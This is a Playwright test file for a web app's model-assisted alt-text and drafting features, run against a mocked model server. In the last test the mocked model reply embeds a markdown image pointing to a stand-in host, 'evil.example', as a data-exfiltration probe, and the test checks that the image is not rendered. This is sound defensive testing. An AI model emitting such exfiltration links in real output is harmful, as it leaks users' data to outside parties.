import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import type { BrowserContextOptions, Page } from "playwright-core";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ModelServer, type ModelTurn, openModelServer } from "../test/model-server.ts";
import { violationsOn } from "./axe.ts";
import { openRegistry } from "./open-registry.ts";
import { setUpAdmin } from "./set-up-admin.ts";
import { PHONE, useSite } from "./use-site.ts";

const photo = (background: string) =>
  sharp({ create: { width: 640, height: 400, channels: 3, background } })
    .png()
    .toBuffer();

describe("texts a model suggests", () => {
  let model: ModelServer;
  let turn: ModelTurn = { text: "Fishing boats in a harbour before sunrise." };
  // A refusal is an answer the browser's console takes for a fault.
  const site = useSite(
    async () => {
      model = await openModelServer(() => turn);
      return openRegistry("sqlite", model.env());
    },
    { expected: /\b50[23]\b/ },
  );
  afterAll(() => model?.close());
  let admin: BrowserContextOptions;
  beforeAll(async () => {
    admin = await setUpAdmin(site);
  });
  const open = async (path: string, options: BrowserContextOptions = {}) => {
    const page = await site.open({ ...admin, ...options });
    await page.goto(path);
    return page;
  };
  const look = async (page: Page, name: string) => {
    const folder = process.env.SCREENSHOTS;
    if (!folder) return;
    await mkdir(folder, { recursive: true });
    await page.evaluate(() => document.fonts.ready.then(() => true));
    await page.screenshot({ path: join(folder, `${name}.png`), fullPage: true });
  };

  it("stand in the field of an upload, and are kept by whoever presses Keep", async () => {
    const page = await open("/media");
    const files = [
      { name: "harbour.png", mimeType: "image/png", buffer: await photo("#c63") },
      { name: "ferry.png", mimeType: "image/png", buffer: await photo("#069") },
    ];
    await page.locator("[data-media-files]").setInputFiles(files);
    const button = page.getByRole("button", { name: "Suggest alt text of harbour" });
    await button.focus();
    await page.keyboard.press("Enter");
    const field = page.getByLabel("Alt text of harbour", { exact: true });
    await expect.poll(() => field.inputValue()).toBe("Fishing boats in a harbour before sunrise.");
    expect(await field.evaluate((one) => one === document.activeElement)).toBe(true);
    await look(page, "writing-upload");
    // Leaving the field keeps nothing that nobody has looked at.
    await page.getByLabel("Alt text of ferry", { exact: true }).focus();
    expect(await page.getByText("Saved", { exact: true }).count()).toBe(0);
    await page.getByRole("button", { name: "Keep alt text of harbour" }).click();
    await expect.poll(() => page.getByText("Saved", { exact: true }).count()).toBe(1);
    expect(await violationsOn(page)).toEqual([]);
    await page.goto("/media?only=undescribed");
    expect(await page.locator(".media-name").allInnerTexts()).toEqual(["ferry"]);
  });

  it("are changed and saved on the page of an asset", async () => {
    turn = { text: "The ferry to the islands." };
    const page = await open("/media?only=undescribed");
    await page.getByRole("link", { name: "ferry" }).click();
    const field = page.getByLabel("Alt text", { exact: true });
    await page.getByRole("button", { name: "Suggest" }).click();
    await expect.poll(() => field.inputValue()).toBe("The ferry to the islands.");
    await expect.poll(() => page.locator("[data-asset-status]").innerText()).toBe("Not saved yet");
    expect(await violationsOn(page)).toEqual([]);
    await look(page, "writing-asset");
    await page.emulateMedia({ colorScheme: "dark" });
    await look(page, "writing-asset-dark");
    // Undo brings back what was there.
    await page.keyboard.press("ControlOrMeta+z");
    expect(await field.inputValue()).toBe("");
    await field.fill("The evening ferry");
    turn = { text: "Something else.", paceMs: 50 };
    await page.getByRole("button", { name: "Suggest" }).click();
    await field.fill("The evening ferry to the islands");
    await expect.poll(() => page.locator("[data-alt-status]").innerText()).toBe("Suggested: Something else.");
    expect(await field.inputValue()).toBe("The evening ferry to the islands");
    await page.getByRole("button", { name: "Save" }).click();
    await expect.poll(() => page.locator("[data-asset-status]").innerText()).toBe("Saved");
    const phone = await open(new URL(page.url()).pathname, PHONE);
    await look(phone, "writing-asset-phone");
  });

  it("say in the field's place what went wrong", async () => {
    turn = { status: 500 };
    const page = await open("/media");
    await page.getByRole("link", { name: "harbour" }).click();
    await page.getByRole("button", { name: "Suggest" }).click();
    await expect.poll(() => page.locator("[data-alt-status]").innerText()).toContain("No suggestion: ");
    expect(await page.getByLabel("Alt text", { exact: true }).inputValue()).not.toBe("");
  });

  it("are drafted from the page of materials, and read among the drafts", async () => {
    turn = { text: "## Size\n\nUse `size` in `Button`, never `MegaDialog`. ![x](https://evil.example/?d=1)" };
    const page = await open("/admin/materials");
    await look(page, "writing-materials");
    await page.getByRole("button", { name: "Draft with the model" }).click();
    await expect.poll(() => page.getByText("The model drafts the texts now").count()).toBe(1);
    expect(await violationsOn(page)).toEqual([]);
    const drafts = async () =>
      (await (await page.request.get("/api/service/drafts?state=open")).json()).drafts as { id: string }[];
    await expect.poll(async () => (await drafts()).length).toBe(2);
    await page.goto("/admin/drafts");
    await page.getByRole("link", { name: "Design guidelines" }).click();
    await expect.poll(() => page.getByText("not in this system").count()).toBeGreaterThan(0);
    expect(await page.locator("main img").count()).toBe(0);
    await look(page, "writing-draft");
  });
});
